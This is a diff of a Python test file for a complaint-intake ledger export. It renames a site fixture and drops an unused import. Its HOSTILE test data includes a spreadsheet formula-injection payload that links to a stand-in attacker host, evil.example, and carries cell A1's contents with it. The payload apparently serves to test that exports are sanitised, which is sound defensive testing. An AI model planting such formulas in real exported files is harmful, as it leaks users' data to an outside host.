@@ -16,7 +16,6 @@ from intake.case.complaints import NewComplaint, create_complaint
 from intake.foundation.models import AuditEntry, CaseFacts, ClaimLine, Complaint, Site
 from intake.supervision.ledger import HEADER, LINES_HEADER
 from tests.helpers import ctx, login, make_accounts, routed, worker_pass
-from tests.test_cases import site  # noqa: F401  (fixtures)
 
 HOSTILE = {
     "name": '=HYPERLINK("http://evil.example/?"&A1,"点击")',
@@ -37,10 +36,10 @@ def far_site(session):
 
 
 @pytest.fixture
-def ledger_cases(app, session, settings, site, far_site):
+def ledger_cases(app, session, settings, lanshan_site, far_site):
     """Two cases in 兰山区: one on a site (housing), accepted; one without a site (so 人社), rejected, with hostile
     text everywhere; and one in 罗庄区."""
-    accepted = routed(app, session, settings, site)
+    accepted = routed(app, session, settings, lanshan_site)
     cases.acknowledge(session, accepted, ctx(app), actor="staff:a")
     cases.accept(session, accepted, ctx(app), actor="staff:a")
     cases.add_claim_line(session, accepted, actor="staff:a", worker_name=HOSTILE["worker"], amount_claimed=4000)
